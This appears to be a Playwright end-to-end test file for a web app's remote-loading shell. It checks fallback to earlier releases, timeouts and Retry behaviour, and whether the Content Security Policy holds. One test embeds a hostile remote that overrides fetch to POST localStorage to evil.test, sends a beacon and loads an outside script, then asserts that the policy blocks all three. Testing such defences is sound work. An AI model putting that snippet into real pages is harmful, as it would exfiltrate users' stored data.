import { integrityOf } from '../../delivery/build/integrity';
import type { Release } from '../../delivery/registry/registry';
import { cases, isFull } from '../effort';
import { stack } from './backend';
import { backend, controlClock, expectWithin } from './clock';
import { expect, type Faulty, test } from './faulty';
import { signInAs } from './fixtures';
import { handMade, notice, publishNext, script, sorry } from './nextRelease';
import { cards } from './parts';

// These releases throw.
test.use({ expectErrors: true });

/** Serves changed copies of the real files under `/next/`. */
async function mirror(faulty: Faulty, change: (file: string, text: string) => string | undefined) {
  const registry = await fetch(`${stack.shell}/remotes.json`).then((answer) => answer.json());
  const real = registry.remote_public[0] as Release;
  const files = Object.values(real.pages).flatMap((list) => list.map(({ file }) => file));
  for (const file of ['remoteEntry.js', ...new Set(files)]) {
    const text = await fetch(new URL(file, real.entry)).then((answer) => answer.text());
    const body = change(file, text);
    const when = new RegExp(`/next/${file.replaceAll('.', '\\.')}`);
    const answer = body === undefined ? { status: 404 } : { status: 200, body, type: script };
    faulty.fault({ when, answer });
  }
}

const bad: Record<string, (faulty: Faulty) => Promise<void> | void> = {
  'a missing entry': (faulty) => {
    faulty.fault({ when: /\/next\//, answer: { status: 404 } });
    publishNext(faulty, () => ({}));
  },
  'an entry that is a page': (faulty) => {
    faulty.fault({ when: /\/next\//, answer: { status: 200, body: '<!doctype html>', type: 'text/html' } });
    publishNext(faulty, () => ({}));
  },
  'a refused connection': (faulty) => {
    faulty.fault({ when: /\/next\//, answer: 'refuse' });
    publishNext(faulty, () => ({}));
  },
  'a changed entry': async (faulty) => {
    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? `${text} ` : text));
    publishNext(faulty, () => ({}));
  },
  'a missing chunk': async (faulty) => {
    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? text : undefined));
    publishNext(faulty, () => ({}));
  },
  'a changed chunk': async (faulty) => {
    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? text : `${text} `));
    publishNext(faulty, () => ({}));
  },
  'an entry that throws': (faulty) => {
    const body = 'throw new Error("entry")';
    faulty.fault({ when: /\/next\/remoteEntry\.js/, answer: { status: 200, body, type: script } });
    publishNext(faulty, () => ({ integrity: integrityOf(Buffer.from(body)) }));
  },
  'an error on evaluation': (faulty) => handMade(faulty, 'throw new Error("evaluation")'),
};

// What the shell does when a release fails: `host/src/remotes/RemotePage.test.tsx`. Here, whether a browser tells it; of a changed entry, it's in
// `release.spec.ts`.
for (const [name, arrange] of cases(bad, 'a changed chunk')) {
  test(`a release with ${name} is replaced by the previous one`, async ({ page, faulty }) => {
    await arrange(faulty);
    await page.goto('/');
    await expect(cards(page).first()).toBeVisible();
    await expect(page.getByText(notice)).toBeVisible();
    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
    const tries = faulty.requests.filter((call) => call.includes('/next/remoteEntry.js'));
    // Prefetched, loaded, and fetched once more to find out what to report.
    expect(tries.length).toBeLessThanOrEqual(3);
  });
}

// That it's replaced: `RemotePage.test.tsx`; that a browser notices it: the next test.
if (isFull)
  test('a release whose code never responds is replaced within 10 s', async ({ page, faulty }) => {
    await mirror(faulty, (_file, text) => text);
    faulty.fault({ when: /\/next\/__federation_expose/, answer: 'hang' });
    publishNext(faulty, ({ pages }) => ({ pages }));
    await controlClock(page);
    await page.goto('/', { waitUntil: 'commit' });
    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
    await expectWithin(page, 10, () => expect(cards(page).first()).toBeVisible({ timeout: 500 }), backend);
    await expect(page.getByText(notice)).toBeVisible();
  });

test('code that never responds is reported within 10 s, and Retry loads it once it does', async ({
  page,
  faulty,
}) => {
  await controlClock(page);
  await signInAs(page, 'owner');
  await page.goto('/');
  await expect(cards(page).first()).toBeVisible();
  const hang = (file: RegExp) => faulty.fault({ when: file, answer: 'hang' });
  const retry = () => page.getByRole('button', { name: 'Retry' }).click();

  const endPage = hang(/\/__federation_expose_CategoriesPage/);
  await page.getByRole('link', { name: 'Categories', exact: true }).click();
  await expectWithin(page, 10, () => expect(page.getByText(sorry)).toBeVisible({ timeout: 500 }), backend);
  endPage();
  await retry();
  await expect(page.getByRole('heading', { level: 1, name: 'Category Management' })).toBeVisible();

  await page.getByRole('button', { name: 'Account menu' }).click();
  await page.getByRole('menuitem', { name: 'My Subscriptions' }).click();
  const subscribe = page.getByRole('button', { name: 'Subscribe to a Newsletter' });
  await expect(subscribe).toBeVisible();
  const endPart = hang(/\/\w+\.[0-9a-f]{12}\.js/);
  await subscribe.click();
  await expectWithin(page, 10, () => expect(page.getByRole('alert')).toBeVisible({ timeout: 500 }), backend);
  endPart();
  await retry();
  await expect(page.getByRole('dialog', { name: 'Subscribe to a Newsletter' })).toBeVisible();
});

test.describe(() => {
  test.use({ expectViolations: true });

  test('a remote that turns hostile cannot send anything to another host', async ({
    page,
    faulty,
    violations,
  }) => {
    const sent: string[] = [];
    page.on('requestfinished', (request) => sent.push(request.url()));
    handMade(
      faulty,
      `const real = window.fetch;
       window.fetch = (...all) => { real('https://evil.test/steal', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {}); return real(...all); };
       navigator.sendBeacon('https://evil.test/beacon', 'x');
       const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.head.append(script);
       return { default: () => null }`,
    );
    await page.goto('/');
    await page.getByRole('button', { name: 'Sign In' }).click();
    await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
    await page.evaluate(() => fetch('/config.json'));
    const blocked = [
      /'https:\/\/evil\.test\/steal' .*connect-src/,
      /'https:\/\/evil\.test\/beacon' .*connect-src/,
      /'https:\/\/evil\.test\/script\.js' .*script-src/,
    ];
    await expect
      .poll(() => violations)
      .toEqual(expect.arrayContaining(blocked.map((text) => expect.stringMatching(text))));
    expect(sent.filter((url) => url.includes('evil.test'))).toEqual([]);
  });
});

test('a part of the shell that could not be loaded is retried; when that fails too, Retry reloads the page', async ({
  page,
  faulty,
}) => {
  await page.goto('/');
  await expect(cards(page).first()).toBeVisible();
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  const end = faulty.fault({ when: /GET \/[\w-]+\.[0-9a-f]{12}\.js/, answer: { status: 404 } });
  await page.getByRole('button', { name: 'Sign In' }).click();
  await expect(page.getByText('This part of the page could not be loaded.')).toBeVisible();
  await page.getByRole('button', { name: 'Retry' }).click();
  await expect(page.getByText('Press Retry to reload the page.')).toBeVisible();
  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
  end();
  await page.getByRole('button', { name: 'Retry' }).click();
  await expect.poll(() => page.evaluate(() => 'sameDocument' in window)).toBe(false);
  await page.getByRole('button', { name: 'Sign In' }).click();
  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
});
